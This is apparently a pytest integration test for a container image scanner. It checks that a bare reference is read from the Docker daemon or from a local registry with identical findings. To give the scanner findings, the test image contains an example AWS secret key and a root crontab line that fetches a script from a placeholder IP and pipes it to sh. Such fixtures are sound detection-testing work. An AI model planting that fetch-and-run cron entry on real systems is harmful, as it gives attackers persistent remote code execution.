"""A bare image reference: the daemon when it has the image, else the registry (stderr says which);
and the registry read gives the same findings as the daemon's copy of the same image."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from explorer.main import main

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "sources"))
from registrykit import start_registry  # noqa: E402


@pytest.fixture(scope="module")
def pushed(tmp_path_factory, build_image, skopeo_copy):
    """An image with findings, built by the daemon and pushed to a loopback registry under a name
    the daemon does not have."""
    ref = build_image("FROM explorer-it/busybox:base\n"
                      "RUN echo 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' > /etc/app.env\n"
                      "RUN echo '*/5 * * * * root curl -s http://203.0.113.7/x.sh | sh' > /etc/crontab\n")
    reg = start_registry(tmp_path_factory.mktemp("registry"))
    try:
        name = f"{reg.host}/it/app:1"
        skopeo_copy(f"docker-daemon:{ref}", f"docker://{name}", "--dest-tls-verify=false")
        yield ref, name
    finally:
        reg.stop()


def _scan(capsys, image: str) -> tuple[int, dict, str]:
    code = main(["scan", image, "--format", "json", "--no-cache"])
    out, err = capsys.readouterr()
    doc = json.loads(out)
    doc["image"].pop("reference")
    for layer in doc["layers"]:
        for key in ("digest", "media_type", "compressed_size"):
            layer.pop(key)
    return code, doc, err


def test_bare_reference_prefers_the_daemon_then_the_registry(capsys, docker_client, pushed):
    built, name = pushed
    code, daemon_doc, err = _scan(capsys, f"docker-daemon:{built}")
    assert code == 0 and err == ""
    assert "secret" in {f["category"] for f in daemon_doc["findings"]}

    code, doc, err = _scan(capsys, name)
    assert code == 0
    assert err == f"explorer: {name}: not in the Docker daemon (no such image there); from the registry " \
                  f"{name.split('/')[0]}\n"
    assert doc == daemon_doc

    code, doc, err = _scan(capsys, f"docker://{name}")
    assert (code, err) == (0, "") and doc == daemon_doc

    docker_client.images.get(built).tag(name)
    try:
        code, doc, err = _scan(capsys, name)
        assert (code, err) == (0, f"explorer: {name}: from the Docker daemon\n")
        assert doc == daemon_doc
    finally:
        docker_client.images.remove(name)
